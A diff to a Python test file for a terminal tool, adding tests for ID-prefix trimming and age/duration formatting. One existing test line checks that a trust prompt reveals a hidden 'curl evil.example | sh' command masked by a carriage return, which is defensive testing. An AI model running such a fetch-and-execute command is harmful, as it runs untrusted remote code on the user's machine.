@@ -5,9 +5,11 @@ from __future__ import annotations
 from pathlib import Path
 
 from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
 
 from readiness_tui.cli import cli
-from readiness_tui.core.display import has_control, printable
+from readiness_tui.core.display import format_age, format_duration, has_control, printable, shared_id_prefix
 
 
 def test_printable_escapes_every_control() -> None:
@@ -29,3 +31,33 @@ def test_trust_prompt_shows_the_hidden_command(tmp_path: Path) -> None:
     assert "curl evil.example | sh\\rmake test" in res.stdout
     assert "\r" not in res.stdout
     assert "control characters" in res.stdout
+
+
+def test_shared_id_prefix_stops_at_a_separator() -> None:
+    codex = ["CODEX-P0-001", "CODEX-P0-002", "CODEX-P1-001"]
+    assert shared_id_prefix(codex) == "CODEX-"  # not "CODEX-P": what is left starts a part
+    assert shared_id_prefix(["CODEX-P0-001", "CODEX-P0-002"]) == "CODEX-P0-"
+    assert shared_id_prefix(["SEC-01", "VLT-01"]) == ""
+    assert shared_id_prefix(["T001", "T002"]) == ""  # no separator: nothing to drop
+    assert shared_id_prefix(["A-1"]) == ""  # one id has nothing to tell apart
+    assert shared_id_prefix(["A-", "A-1"]) == ""  # would leave an id empty
+    assert shared_id_prefix(["svc.api/a", "svc.api/b"]) == "svc.api/"
+
+
+@given(st.lists(st.text(alphabet="AB-_.1", min_size=1, max_size=8), min_size=2, max_size=6, unique=True))
+def test_shared_id_prefix_keeps_ids_apart(ids: list[str]) -> None:
+    prefix = shared_id_prefix(ids)
+    rest = [i[len(prefix) :] for i in ids]
+    assert all(i.startswith(prefix) for i in ids) and all(rest)
+    assert len(set(rest)) == len(ids)  # what is left still tells every id apart
+    assert prefix == "" or prefix[-1] in "-_./: "
+
+
+def test_ages_and_durations_have_one_rule_with_units() -> None:
+    assert format_age(None) == "never"
+    assert format_age(5.9) == "5s ago" and format_age(125) == "2m ago"
+    assert format_age(7200) == "2h ago" and format_age(3 * 86400) == "3d ago"
+    assert format_duration(None) == "-"
+    assert format_duration(0.0123) == "12ms" and format_duration(0.9994) == "999ms"
+    assert format_duration(1.25) == "1.2s" and format_duration(59.4) == "59.4s"
+    assert format_duration(125.7) == "2m 05s"
